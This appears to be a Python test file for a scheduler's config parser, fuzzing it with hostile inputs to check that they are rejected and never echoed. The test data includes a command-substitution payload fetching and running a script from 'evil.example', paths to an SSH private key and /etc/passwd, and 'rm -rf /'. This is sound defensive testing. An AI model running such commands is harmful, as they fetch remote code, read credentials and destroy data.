"""The strict local config: good, bad and hostile documents."""

from __future__ import annotations

import json
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from aios_systemd import config
from aios_systemd.config import Source
from aios_systemd.registry import REGISTRY

SECRETISH = "sk-live-CANARY-4242"


def parse(doc: object) -> config.LocalConfig:
    return config.parse(json.dumps(doc).encode(), REGISTRY)


def test_missing_config_uses_registry_defaults() -> None:
    cfg = config.parse(None, REGISTRY)
    assert not cfg.present and cfg.warnings == ()
    s = cfg.settings("agent-aggregate")
    assert s.cadence.id == "every-4-hours" and s.cadence_source is Source.REGISTRY
    assert s.timer_enabled is None and s.timer_intent is True
    assert cfg.settings("aggregate").timer_intent is False


def test_valid_config_is_applied() -> None:
    cfg = parse(
        {
            "schemaVersion": 1,
            "jobs": {
                "aggregate": {"timerEnabled": True, "cadence": "hourly"},
                "dream": {"timerEnabled": False, "times": ["18:30", "06:05"]},
            },
        }
    )
    assert cfg.warnings == ()
    agg = cfg.settings("aggregate")
    assert agg.timer_intent and agg.timer_intent_source is Source.CONFIG and agg.calendars == ("hourly",)
    dream = cfg.settings("dream")
    assert dream.calendars == ("*-*-* 06:05:00", "*-*-* 18:30:00") and dream.timer_intent is False


def test_example_config_is_valid_and_shipped() -> None:
    example = Path(__file__).resolve().parent.parent / "data" / "ai-os.scheduler.example.json"
    assert json.loads(example.read_text()) == config.example_document(REGISTRY)
    assert config.parse(example.read_bytes(), REGISTRY).warnings == ()


def test_raw_calendar_shell_and_paths_are_rejected_without_echo() -> None:
    cfg = parse(
        {
            "jobs": {
                "agent-aggregate": {"cadence": "*-*-* *:*:00"},
                "trend-finder": {"cadence": "$(curl evil.example | sh)"},
                "dream": {"times": ["/home/someone/.ssh/id_rsa"]},
                "aggregate": {"timerEnabled": "yes"},
                SECRETISH: {"timerEnabled": True},
            },
            SECRETISH: 1,
        }
    )
    text = " ".join(str(w) for w in cfg.warnings)
    for raw in ("*:*", "curl", "/home", "id_rsa", "yes", SECRETISH):
        assert raw not in text
    keys = {w.key for w in cfg.warnings}
    assert {
        "jobs.agent-aggregate.cadence",
        "jobs.trend-finder.cadence",
        "jobs.dream.times[0]",
        "jobs.aggregate.timerEnabled",
        "jobs.<unknown job>",
        "<unknown key>",
    } <= keys
    # Every job fell back to its registry defaults.
    for job in REGISTRY:
        assert cfg.settings(job.id).cadence.id == job.default_cadence


def test_a_bad_entry_does_not_disable_good_ones() -> None:
    cfg = parse({"jobs": {"aggregate": {"cadence": "hourly"}, "dream": {"times": "06:30"}}})
    assert cfg.settings("aggregate").cadence.id == "hourly"
    assert cfg.settings("dream").cadence_source is Source.REGISTRY
    assert [str(w) for w in cfg.warnings] == ["jobs.dream.times: must be a list"]


def test_non_json_bytes_deep_nesting_and_huge_files(tmp_path: Path) -> None:
    assert config.parse(b"\xff\xfe\x00", REGISTRY).warnings[0].rule == "is not UTF-8 text"
    deep = b"[" * 100000 + b"]" * 100000
    assert config.parse(deep, REGISTRY).warnings
    big = tmp_path / "big.json"
    big.write_bytes(b" " * (config.MAX_CONFIG_BYTES + 1))
    cfg = config.load(big, REGISTRY)
    assert cfg.warnings and "larger" in cfg.warnings[0].rule
    link = tmp_path / "link.json"
    link.symlink_to(big)
    assert "symlink" in config.load(link, REGISTRY).warnings[0].rule


def test_trend_finder_times_and_repeated_times_rejected() -> None:
    cfg = parse({"jobs": {"trend-finder": {"times": ["06:00"]}, "dream": {"times": ["06:00", "06:00"]}}})
    assert {str(w) for w in cfg.warnings} == {
        "jobs.trend-finder.times: is only allowed for Dream",
        "jobs.dream.times: must not repeat a time",
    }


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=4),
    max_leaves=20,
)
job_keys = st.sampled_from([*REGISTRY.ids(), "evil", ""]) | st.text(max_size=10)
entry_keys = st.sampled_from(["timerEnabled", "cadence", "times", "command", "ExecStart"]) | st.text(max_size=8)
entries = st.dictionaries(
    entry_keys,
    json_values
    | st.sampled_from(["hourly", "daily-0600", "*-*-* 0/4:00:00", "06:30", "rm -rf /", "/etc/passwd"])
    | st.lists(st.sampled_from(["06:30", "25:00", "6:30", "x"]), max_size=3),
    max_size=4,
)


@settings(max_examples=300, deadline=None)
@given(
    doc=st.dictionaries(
        st.sampled_from(["schemaVersion", "jobs", "extra"]),
        st.dictionaries(job_keys, entries, max_size=5) | json_values,
        max_size=3,
    )
)
def test_fuzzed_configs_never_crash_or_accept_unreviewed_values(doc: dict[str, object]) -> None:
    cfg = parse(doc)
    for job in REGISTRY:
        s = cfg.settings(job.id)
        assert s.cadence.id in job.cadences
        for cal in s.calendars:
            assert cal in ("hourly", "*-*-* 0/2:00:00", "*-*-* 0/4:00:00", "*-*-* 06:00:00") or (
                cal.startswith("*-*-* ") and len(cal) == 14
            )
    for w in cfg.warnings:
        # Warnings are built from reviewed names only, so no raw value can reach them.
        assert set(str(w)) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.[]<>:, ")


def test_a_number_too_long_for_int_is_a_warning_not_a_crash() -> None:
    # json.loads raises a plain ValueError (not JSONDecodeError) past 4300 digits; found by
    # the reliability campaign's config fuzzing.
    for raw in (b'{"schemaVersion": ' + b"1" * 5000 + b"}", b'{"jobs": {"dream": {"times": [' + b"9" * 9000 + b"]}}}"):
        cfg = config.parse(raw, REGISTRY)
        assert [str(w) for w in cfg.warnings] == ["$: is not valid JSON (a number is too long)"]
        assert cfg.settings("dream").cadence.id == REGISTRY.get("dream").default_cadence


# -- notify: failure alerts ------------------------------------------------------------------
def test_notify_is_a_strict_boolean_per_job() -> None:
    cfg = parse({"jobs": {"agent-aggregate": {"notify": True}, "dream": {"notify": "yes"}}})
    assert cfg.settings("agent-aggregate").notify is True
    assert cfg.settings("trend-finder").notify is False  # off unless the config says so
    assert [str(w) for w in cfg.warnings] == ["jobs.dream.notify: must be true or false"]
    assert cfg.settings("dream").notify is False


def _notify_path(tmp_path: Path, doc: object | None) -> Path:
    path = tmp_path / "data" / "ai-os.scheduler.json"
    if doc is not None:
        path.parent.mkdir()
        path.write_text(json.dumps(doc, indent=4))
        path.chmod(0o600)
    return path


def test_with_notify_keeps_every_other_entry_and_key(tmp_path: Path) -> None:
    doc = {
        "schemaVersion": 1,
        "jobs": {"dream": {"timerEnabled": False, "times": ["18:30"]}, "agent-aggregate": {"cadence": "hourly"}},
    }
    path = _notify_path(tmp_path, doc)
    data = config.with_notify(path, ["agent-aggregate", "trend-finder"], REGISTRY)
    assert data is not None
    config.write(path, data)
    written = json.loads(path.read_text())
    assert written == {
        "schemaVersion": 1,
        "jobs": {
            "dream": {"timerEnabled": False, "times": ["18:30"]},
            "agent-aggregate": {"cadence": "hourly", "notify": True},
            "trend-finder": {"notify": True},
        },
    }
    assert path.stat().st_mode & 0o777 == 0o600  # the operator's mode is kept
    assert config.with_notify(path, ["agent-aggregate"], REGISTRY) is None  # already on


def test_with_notify_creates_a_missing_config(tmp_path: Path) -> None:
    path = _notify_path(tmp_path, None)
    data = config.with_notify(path, ["agent-aggregate"], REGISTRY)
    assert data is not None
    config.write(path, data)
    assert json.loads(path.read_text()) == {"schemaVersion": 1, "jobs": {"agent-aggregate": {"notify": True}}}
    assert path.stat().st_mode & 0o777 == 0o644
    assert config.parse(path.read_bytes(), REGISTRY).settings("agent-aggregate").notify


def test_with_notify_refuses_an_invalid_config_and_leaves_it(tmp_path: Path) -> None:
    from aios_systemd.errors import AiosError

    for bad in (b"{not json", json.dumps({"jobs": {"dream": {"cadence": SECRETISH}}}).encode()):
        path = _notify_path(tmp_path, {})
        path.write_bytes(bad)
        try:
            config.with_notify(path, ["agent-aggregate"], REGISTRY)
        except AiosError as exc:
            assert (
                "notify cannot be written" in exc.message and exc.hint and "fix data/ai-os.scheduler.json" in exc.hint
            )
            assert SECRETISH not in exc.message
        else:
            raise AssertionError("an invalid config was rewritten")
        assert path.read_bytes() == bad
        path.unlink()
        path.parent.rmdir()
